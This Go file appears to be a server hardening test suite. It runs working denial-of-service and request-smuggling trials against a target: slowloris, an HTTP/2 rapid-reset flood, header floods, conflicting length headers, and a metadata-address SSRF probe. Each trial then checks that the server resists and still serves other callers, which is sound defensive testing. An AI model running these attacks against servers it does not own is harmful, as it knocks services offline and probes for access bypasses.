package attack

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// connections returns the attacks on the server's connections. Each attack checks that other callers are served
// meanwhile.
func connections() []Attack {
	return []Attack{
		{ID: "A14", What: "slowloris: headers, a byte at a time", try: slowHeaders, slow: true},
		{ID: "A15", What: "bodies, a byte at a time", try: slowBodies, slow: true},
		{ID: "A16", What: "answers that nobody reads", try: slowReaders, slow: true},
		{ID: "A17", What: "idle connections", try: idleConnections},
		{ID: "A18", What: "HTTP/2: streams that are reset at once", try: rapidReset},
		{ID: "A19", What: "headers in number and size", try: manyHeaders},
		{ID: "A20", What: "smuggling: two lengths, odd spellings, pipelines, strange hosts", try: smuggling},
	}
}

// slowly opens n connections. Each writes start and then a byte per second. slowly returns how many of them the
// server ended in time.
func slowly(ctx context.Context, t *Target, x *trial, n int, start string, within time.Duration) (ended int) {
	var mu sync.Mutex
	crowd(n, func(int) {
		conn, err := t.dial(ctx)
		if err != nil {
			x.fail("connect: %v", err)
			return
		}
		defer conn.Close()
		_, _ = io.WriteString(conn, start)
		heard := make(chan struct{})
		go func() {
			defer close(heard)
			_ = conn.SetReadDeadline(time.Now().Add(within)) // a broken connection ends the read
			_, err := io.Copy(io.Discard, conn)
			var late net.Error
			if !asTimeout(err, &late) {
				mu.Lock()
				ended++
				mu.Unlock()
			}
		}()
		for {
			select {
			case <-heard:
				return
			case <-time.After(time.Second):
				_, _ = io.WriteString(conn, "x")
			}
		}
	})
	return ended
}

// beside checks every quarter of a second that honest callers are served, until done is closed.
func beside(ctx context.Context, x *trial, done <-chan struct{}) {
	for {
		select {
		case <-done:
			return
		case <-time.After(250 * time.Millisecond):
			x.served(ctx)
		}
	}
}

func slowAttack(ctx context.Context, t *Target, x *trial, what, start string, within time.Duration) {
	const n = 100
	done, ended := make(chan struct{}), 0
	go func() {
		defer close(done)
		ended = slowly(ctx, t, x, n, start, within)
	}()
	beside(ctx, x, done)
	x.note(fmt.Sprintf("%d connections with %s", n, what), fmt.Sprintf("%d of them ended by the server", ended))
	if ended < n {
		x.fail("after %s only %d of %d were ended", within, ended, n)
	}
}

func slowHeaders(ctx context.Context, t *Target, x *trial) {
	slowAttack(ctx, t, x, "headers without end", "GET /livez HTTP/1.1\r\nHost: "+t.host+"\r\nX: ", 10*time.Second)
}

func slowBodies(ctx context.Context, t *Target, x *trial) {
	slowAttack(ctx, t, x, "a body that dribbles", t.request("POST", "/paid/submit", "Content-Type: application/json",
		"Content-Length: 10000")+"{", 20*time.Second)
}

// slowReaders asks for more than the system buffers and reads nothing. The server has to end each connection on
// which no byte was sent for half a minute.
func slowReaders(ctx context.Context, t *Target, x *trial) {
	const n, unread = 100, 33 * time.Second // the server's 30 s and some more
	var open []net.Conn
	for range n {
		conn, err := t.dial(ctx)
		if err != nil {
			x.fail("connect: %v", err)
			break
		}
		_ = conn.(*net.TCPConn).SetReadBuffer(4 << 10) // if it cannot be set, more of the answers is buffered here
		open = append(open, conn)
		// The write blocks when the server no longer reads.
		go func() { _, _ = io.WriteString(conn, strings.Repeat(t.request("GET", "/openapi.yaml"), 100)) }()
	}
	done := make(chan struct{})
	time.AfterFunc(unread, func() { close(done) })
	beside(ctx, x, done)
	var ended atomic.Int64
	crowd(len(open), func(n int) {
		_ = open[n].SetDeadline(time.Now().Add(5 * time.Second)) // reads the buffered answers, and then the end
		var late net.Error
		if _, err := io.Copy(io.Discard, open[n]); !asTimeout(err, &late) {
			ended.Add(1)
		}
		_ = open[n].Close()
	})
	x.note(fmt.Sprintf("%d connections that ask for 100 pages and read none", len(open)),
		fmt.Sprintf("%d of them ended by the server", ended.Load()))
	if t.own() && ended.Load() < n {
		x.fail("after %s %d of %d were ended", unread, ended.Load(), n)
	}
}

// idleConnections opens more connections than a server started by Own accepts. The limit of another server is not
// known.
func idleConnections(ctx context.Context, t *Target, x *trial) {
	const n = 3000
	var open []net.Conn
	for range n {
		conn, err := t.dial(ctx)
		if err != nil {
			break // this process has no more file descriptors
		}
		open = append(open, conn)
	}
	for range 2 {
		t.client.CloseIdleConnections() // so that the next requests use new connections
		x.served(ctx)
	}
	ended := 0
	for _, conn := range open {
		_ = conn.SetReadDeadline(time.Now().Add(time.Millisecond)) // a connection that was ended reports that at once
		var late net.Error
		if _, err := conn.Read(make([]byte, 1)); !asTimeout(err, &late) {
			ended++
		}
		_ = conn.Close()
	}
	what := fmt.Sprintf("%d connections that say nothing", len(open))
	if t.own() {
		what += fmt.Sprintf(", where %d are held", ownConnections)
	} else {
		what += ", whether or not that is more than the server holds"
	}
	x.note(what, fmt.Sprintf("%d of them ended by the server", ended))
	if want := len(open) - ownConnections; t.own() && (want <= 0 || ended < want) {
		x.fail("%d connections were opened and %d ended, where %d are held", len(open), ended, ownConnections)
	}
}

// rapidReset speaks HTTP/2 without TLS. A server that does not speak HTTP/2 ends the connection. A server that
// does gets 10,000 streams, each of which is reset as soon as it is opened (CVE-2023-44487).
func rapidReset(ctx context.Context, t *Target, x *trial) {
	conn, err := t.dial(ctx)
	if err != nil {
		x.fail("connect: %v", err)
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // a broken connection fails in the calls below
	_, _ = io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	_, _ = conn.Write(frame(0x4, 0, 0, nil)) // SETTINGS
	head := make([]byte, 9)
	if _, err := io.ReadFull(conn, head); err != nil || head[3] != 0x4 {
		if t.own() { // its settings turn HTTP/2 on
			x.fail("HTTP/2 is not spoken: %v %x", err, head)
		}
		x.note("the preface of HTTP/2", "closed: not spoken here")
		return
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	fields := append([]byte{0x82, 0x86, 0x84, 0x41, byte(len(t.host))}, t.host...) // GET, http, /, :authority
	var burst bytes.Buffer
	for n := range uint32(10_000) {
		burst.Write(frame(0x1, 0x5, 2*n+1, fields))             // HEADERS that end the headers and the stream
		burst.Write(frame(0x3, 0, 2*n+1, []byte{0, 0, 0, 0x8})) // RST_STREAM: CANCEL
	}
	_, err = burst.WriteTo(conn)
	back := "all were read"
	if err != nil {
		back = "closed"
	}
	x.note("10,000 streams, each reset at once", back)
	for range 4 {
		<-time.After(100 * time.Millisecond)
		x.served(ctx)
	}
}

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	f := make([]byte, 9, 9+len(payload))
	f[0], f[1], f[2], f[3], f[4] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags
	binary.BigEndian.PutUint32(f[5:], stream)
	return append(f, payload...)
}

func manyHeaders(ctx context.Context, t *Target, x *trial) {
	get := "GET /livez HTTP/1.1\r\nHost: " + t.host + "\r\n"
	x.want("10,000 headers", t.raw(ctx, get+strings.Repeat("X-A: b\r\n", 10_000)+"\r\n"), "431", "closed")
	x.want("one header of 100 KiB", t.raw(ctx, get+"X: "+strings.Repeat("y", 100<<10)+"\r\n\r\n"), "431", "closed")
	x.want("a path of 100 KiB", t.raw(ctx, "GET /"+strings.Repeat("y", 100<<10)+" HTTP/1.1\r\nHost: "+t.host+"\r\n\r\n"),
		"431", "414", "closed")
	x.want("trailers of 100 KiB", t.raw(ctx, t.request("POST", "/paid/submit", "Transfer-Encoding: chunked",
		"Trailer: X")+"0\r\nX: "+strings.Repeat("y", 100<<10)+"\r\n\r\n"),
		"202", "400", "413", "431", "closed")
}

func smuggling(ctx context.Context, t *Target, x *trial) {
	post := func(headers ...string) string {
		return t.request("POST", "/public/submit", append([]string{"Content-Type: application/json"}, headers...)...)
	}
	inner := "GET /admin/keys HTTP/1.1\r\nHost: x\r\n\r\n"
	for what, text := range map[string]string{
		"two Content-Lengths":         post("Content-Length: 2", "Content-Length: 50") + "{}" + inner,
		"a strange Transfer-Encoding": post("Transfer-Encoding: xchunked") + "2\r\n{}\r\n0\r\n\r\n",
		"two Transfer-Encodings":      post("Transfer-Encoding: chunked, identity") + "0\r\n\r\n",
		"a blank before the colon":    post("Content-Length : 2") + "{}",
		"a negative length":           post("Content-Length: -1") + "{}",
		"a length with a plus":        post("Content-Length: +2") + "{}",
		"a bad chunk size":            post("Transfer-Encoding: chunked") + "0x2\r\n{}\r\n0\r\n\r\n",
		"no Host":                     "GET /livez HTTP/1.1\r\n\r\n",
		"two Hosts":                   "GET /livez HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
		"a Host with a blank":         "GET /livez HTTP/1.1\r\nHost: a b\r\n\r\n",
		"a NUL in a header":           "GET /livez HTTP/1.1\r\nHost: a\r\nX: \x00\r\n\r\n",
		"HTTP/9.9":                    "GET /livez HTTP/9.9\r\nHost: a\r\n\r\n",
		"a bare CR":                   "GET /livez HTTP/1.1\rHost: a\r\n\r\n",
	} {
		x.want(what, t.raw(ctx, text), "400", "501", "505", "closed")
	}
	both := t.raw(ctx, post("Content-Length: 4", "Transfer-Encoding: chunked")+"0\r\n\r\n"+inner)
	x.want("Content-Length and Transfer-Encoding", both, "202", "400")
	// RFC 9112 allows a server to accept this as one header.
	x.want("a folded header", t.raw(ctx, post("X-A: b\r\n c", "Content-Length: 2")+"{}"), "202", "400")
	x.want("CONNECT", t.raw(ctx, "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n"), "404", "405", "400",
		"401")
	x.want("an absolute URI of another host",
		t.raw(ctx, "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: "+t.host+"\r\n\r\n"),
		"404", "401", "403")
	pipelined(ctx, t, x)
}

// pipelined sends requests one behind the other without waiting. Each has to get its own answer, and a request
// without a key behind alice's must not get her permissions.
func pipelined(ctx context.Context, t *Target, x *trial) {
	conn, err := t.dial(ctx)
	if err != nil {
		x.fail("connect: %v", err)
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // a broken connection fails in the calls below
	_, _ = io.WriteString(conn, t.request("GET", "/api/jobs")+"GET /api/jobs HTTP/1.1\r\nHost: "+t.host+"\r\n\r\n"+
		t.request("GET", "/admin/keys"))
	answers := bufio.NewReader(conn)
	for i, wanted := range []string{"200", "401 UNAUTHORIZED", "403 FORBIDDEN"} {
		resp, err := http.ReadResponse(answers, nil)
		if err != nil {
			x.fail("pipelined request %d: %v", i+1, err)
			return
		}
		x.want(fmt.Sprintf("pipelined request %d", i+1), read(resp), wanted)
	}
}
